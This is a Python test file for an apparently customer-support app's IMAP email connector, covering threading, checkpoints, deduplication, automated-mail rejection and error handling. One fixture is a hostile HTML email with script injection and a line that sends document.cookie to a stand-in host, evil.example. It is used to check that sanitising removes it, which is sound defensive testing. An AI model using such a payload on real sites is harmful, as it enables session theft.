"""Hearing a mailbox: mail put in a real IMAP folder arrives as posts through the
clock's fetch, once, from where the last fetch ended, without the mailbox changing."""

from datetime import UTC, datetime

from django.utils import timezone

from socialdesk.audit.models import Event
from socialdesk.cases.models import Case
from socialdesk.connectors.email.connector import EmailConnector
from socialdesk.connectors.email.tests.conftest import make_account
from socialdesk.connectors.email.tests.servers import free_port
from socialdesk.connectors.listening import check_account, do_poll_account
from socialdesk.connectors.models import ChannelAccount
from socialdesk.ingestion.models import Post


def mail(n: int, subject: str = "", body: str = "", *, sender="Dana Reyes <Dana@Example.org>",
         headers: str = "", date="Mon, 07 Dec 2026 09:00:00 +0000") -> str:
    return (f"From: {sender}\nTo: care@example.com\nSubject: {subject or f'Order {n}'}\n"
            f"Date: {date}\nMessage-ID: <m{n}@mail.example.org>\n{headers}"
            "Content-Type: text/plain; charset=utf-8\n\n"
            f"{body or f'my order {n} never arrived, can you help?'}\n")


def poll(account):
    """The clock's fetch, on the account as the database has it."""
    fresh = ChannelAccount.objects.get(pk=account.pk)
    ChannelAccount.objects.filter(pk=account.pk).update(next_poll_at=timezone.now())
    fresh.refresh_from_db()
    return do_poll_account(fresh)


def test_mail_arrives_as_private_posts_from_the_sender(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1, "Kettle leaking", "It leaks from the base.\n\nDana"))

    report = poll(account)
    assert (report.fetched, report.created, report.error) == (1, 1, "")
    post = Post.objects.get()
    assert (post.channel, post.external_id, post.visibility) == ("email", "m1@mail.example.org",
                                                                 "private")
    assert post.author.handle == "dana@example.org"
    assert post.text == "Kettle leaking\n\nIt leaks from the base.\n\nDana"
    assert post.created_at == datetime(2026, 12, 7, 9, 0, tzinfo=UTC)
    assert post.account == mailbox.address
    assert post.raw["subject"] == "Kettle leaking" and post.raw["references"] == []
    assert Case.objects.get().channel == "email"
    # Read without a trace: nobody sharing the mailbox sees the message as read.
    assert b"\\Seen" not in b" ".join(mailbox.flags())


def test_the_check_says_who_the_desk_is_and_what_the_folder_holds(db, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1))
    mailbox.deliver(mail(2))
    assert check_account(account) == (
        True, f"signed in to 127.0.0.1 as {mailbox.address}; INBOX holds 2 messages")


def test_a_restart_goes_on_after_the_last_message_read(teams, mailbox):
    account = make_account(mailbox)
    for n in (1, 2, 3):
        mailbox.deliver(mail(n))
    assert poll(account).created == 3

    # A new process: the account as the database has it, two more messages waiting.
    mailbox.deliver(mail(4))
    mailbox.deliver(mail(5))
    report = poll(ChannelAccount.objects.get(pk=account.pk))
    assert (report.fetched, report.created, report.duplicates) == (2, 2, 0)
    checkpoint = ChannelAccount.objects.get(pk=account.pk).checkpoint
    assert (checkpoint["folder"], checkpoint["uid"]) == ("INBOX", 5)
    assert poll(account).fetched == 0


def test_a_full_mailbox_is_read_in_batches_each_saying_more_is_waiting(teams, mailbox,
                                                                         settings):
    account = make_account(mailbox)
    for n in range(1, 6):
        mailbox.deliver(mail(n))
    first = EmailConnector().fetch(account, {}, 2)
    assert [r.external_id for r in first.records] == ["m1@mail.example.org",
                                                      "m2@mail.example.org"]
    assert first.more and first.checkpoint["uid"] == 2
    last = EmailConnector().fetch(account, {**first.checkpoint, "uid": 4}, 2)
    assert [r.external_id for r in last.records] == ["m5@mail.example.org"]
    assert not last.more

    settings.PIPELINE_BATCH_SIZE = 2  # the clock goes on while more is waiting
    assert poll(account).created == 5


def test_a_renumbered_folder_is_read_again_and_nothing_is_stored_twice(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1))
    mailbox.deliver(mail(2))
    poll(account)
    ChannelAccount.objects.filter(pk=account.pk).update(
        checkpoint={"folder": "INBOX", "uidvalidity": 12345, "uid": 2})

    report = poll(account)
    assert (report.fetched, report.created, report.duplicates) == (2, 0, 2)
    assert Post.objects.count() == 2


def test_the_same_message_delivered_twice_is_one_post(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1))
    poll(account)
    mailbox.deliver(mail(1))  # a second copy (Cc'd and To'd, or a client's resend)
    report = poll(account)
    assert (report.fetched, report.created, report.duplicates) == (1, 0, 1)
    assert Post.objects.count() == 1


def answer(n: int, to: int, body: str, chain: str = "") -> str:
    refs = f"References: {chain or f'<m{to}@mail.example.org>'}\n"
    return mail(n, f"Re: Order {to}", body,
                headers=f"In-Reply-To: <m{to}@mail.example.org>\n{refs}")


def test_a_customers_answer_joins_the_case_it_answers(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1, "Kettle leaking", "It leaks from the base."))
    poll(account)
    mailbox.deliver(answer(2, to=1, body="Order number 12345.\n\nOn Mon, 7 Dec 2026, Dana "
                                         "wrote:\n> It leaks from the base."))
    poll(account)

    first, second = Post.objects.order_by("id")
    assert second.in_reply_to == "m1@mail.example.org" and second.parent == first
    assert second.case == first.case and Case.objects.count() == 1
    assert second.text == "Re: Order 1\n\nOrder number 12345."
    assert second.raw["references"] == ["m1@mail.example.org"]


def test_an_answer_that_arrives_before_what_it_answers_still_joins_it(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(answer(2, to=1, body="Order number 12345."))
    poll(account)
    mailbox.deliver(mail(1, "Kettle leaking", "It leaks from the base."))
    poll(account)

    first = Post.objects.get(external_id="m1@mail.example.org")
    second = Post.objects.get(external_id="m2@mail.example.org")
    assert second.parent == first and second.case == first.case


HOSTILE = """<html><head><title>ignored</title><style>p { color: red }</style>
<script>alert("head")</script></head>
<body onload="steal()"><p>My kettle &amp; its lid are <b>broken</b>&nbsp;&mdash; help!</p>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)">
<iframe src="https://evil.example/"><p>inside a frame</p></iframe>
<!-- a comment <script>alert(2)</script> -->
<p>&lt;script&gt;not code, words&lt;/script&gt;</p>
<div>Order 12345</div><script>document.location='https://evil.example/?'+document.cookie
"""


def html_mail(n: int, html: str) -> str:
    return (f"From: dana@example.org\nSubject: Broken\nMessage-ID: <m{n}@mail.example.org>\n"
            "Date: Mon, 07 Dec 2026 09:00:00 +0000\n"
            "Content-Type: text/html; charset=utf-8\n\n" + html)


def test_html_only_mail_is_read_as_its_words_and_nothing_else(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(html_mail(1, HOSTILE))
    poll(account)
    text = Post.objects.get().text
    assert text == ("Broken\n\nMy kettle & its lid are broken — help!\n\n"
                    "<script>not code, words</script>\n\nOrder 12345")
    for hidden in ("alert", "color", "steal", "tracker", "inside a frame", "cookie",
                   "ignored"):
        assert hidden not in text


def test_attachments_are_listed_never_opened(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(
        "From: dana@example.org\nSubject: Receipt\nMessage-ID: <m1@mail.example.org>\n"
        "Date: Mon, 07 Dec 2026 09:00:00 +0000\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n--b\n'
        "Content-Type: text/plain\n\nMy receipt is attached.\n--b\n"
        'Content-Type: application/pdf; name="receipt.pdf"\n'
        'Content-Disposition: attachment; filename="receipt.pdf"\n'
        "Content-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--b\n"
        'Content-Type: application/x-msdownload\n'
        'Content-Disposition: attachment; filename="fix.exe"\n'
        "Content-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--b--\n")
    poll(account)
    post = Post.objects.get()
    assert post.text == "Receipt\n\nMy receipt is attached."
    assert post.raw["attachments"] == [
        {"name": "receipt.pdf", "type": "application/pdf", "size": 9},
        {"name": "fix.exe", "type": "application/x-msdownload", "size": 12}]


def test_automated_and_own_mail_is_set_aside_with_its_reason_and_never_answered(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1, "Out of office", headers="Auto-Submitted: auto-replied\n"))
    mailbox.deliver(mail(2, "Undelivered Mail Returned to Sender",
                         sender="MAILER-DAEMON@mx.example.org"))
    mailbox.deliver(mail(3, "Our winter sale", headers="Precedence: bulk\n"))
    mailbox.deliver(mail(4, "Kettle leaking"))
    mailbox.deliver(mail(5, "Re: Kettle leaking", sender=f"Care <{mailbox.address.upper()}>"))

    report = poll(account)
    assert (report.fetched, report.created) == (1, 1)
    assert [why for _, why in report.rejected] == [
        "automated mail (Auto-Submitted: auto-replied): not a customer's message, not answered",
        "automated mail (sent by mailer-daemon@mx.example.org): not a customer's message, "
        "not answered",
        "automated mail (Precedence: bulk): not a customer's message, not answered",
        f"sent from this mailbox's own address ({mailbox.address})"]
    assert report.rejected[0][0] == "INBOX UID 1 <m1@mail.example.org>"
    assert Event.objects.get(verb="account.items_rejected").data["count"] == 4
    assert list(Post.objects.values_list("external_id", flat=True)) == ["m4@mail.example.org"]
    assert ChannelAccount.objects.get(pk=account.pk).checkpoint["uid"] == 5


def test_a_message_without_a_message_id_gets_a_stable_one(teams, mailbox):
    account = make_account(mailbox)
    mailbox.deliver(mail(1).replace("Message-ID: <m1@mail.example.org>\n", ""))
    poll(account)
    validity = ChannelAccount.objects.get(pk=account.pk).checkpoint["uidvalidity"]
    post = Post.objects.get()
    assert post.external_id.startswith(f"imap.{validity}.1.INBOX.")
    assert post.external_id.endswith("@127.0.0.1")
    # Read again (a crash before the checkpoint was saved): the same id, one post.
    ChannelAccount.objects.filter(pk=account.pk).update(checkpoint={})
    assert poll(account).duplicates == 1


def test_a_message_without_a_usable_date_takes_its_arrival_time(teams, mailbox):
    account = make_account(mailbox)
    before = timezone.now().replace(microsecond=0)
    mailbox.deliver(mail(1, date="yesterday-ish"))
    mailbox.deliver(mail(2, date="Mon, 07 Dec 2099 09:00:00 +0000"))  # a wrong clock
    poll(account)
    for post in Post.objects.all():
        assert before <= post.created_at <= timezone.now()


def test_an_account_may_start_with_new_mail_only(teams, mailbox):
    account = make_account(mailbox, start="new")
    mailbox.deliver(mail(1))  # years of history, say
    assert poll(account).fetched == 0
    mailbox.deliver(mail(2))
    assert poll(account).fetched == 1
    assert list(Post.objects.values_list("external_id", flat=True)) == ["m2@mail.example.org"]


def test_a_wrong_password_stops_fetching_with_the_servers_words(teams, mailbox):
    account = make_account(mailbox, password="not the password")
    report = poll(account)
    account.refresh_from_db()
    assert account.error_kind == "reauthorise" and account.next_poll_at is None
    assert report.error == account.last_error == (
        f"127.0.0.1 refused the sign-in as {mailbox.address}: "
        "[AUTHENTICATIONFAILED] Authentication failed.")
    assert Event.objects.get(verb="account.fetch_failed").data["kind"] == "reauthorise"


def test_a_server_that_is_down_is_tried_again_later(teams, mailbox):
    account = make_account(mailbox, imap_port=free_port())
    poll(account)
    account.refresh_from_db()
    assert account.error_kind == "retryable" and account.next_poll_at is not None
    assert "cannot reach the IMAP server" in account.last_error
    assert "refused" in account.last_error.lower()


def test_a_folder_that_does_not_exist_needs_the_settings_fixed(teams, mailbox):
    account = make_account(mailbox, folder="Support")
    poll(account)
    account.refresh_from_db()
    assert account.error_kind == "permanent" and "cannot open the folder" in account.last_error
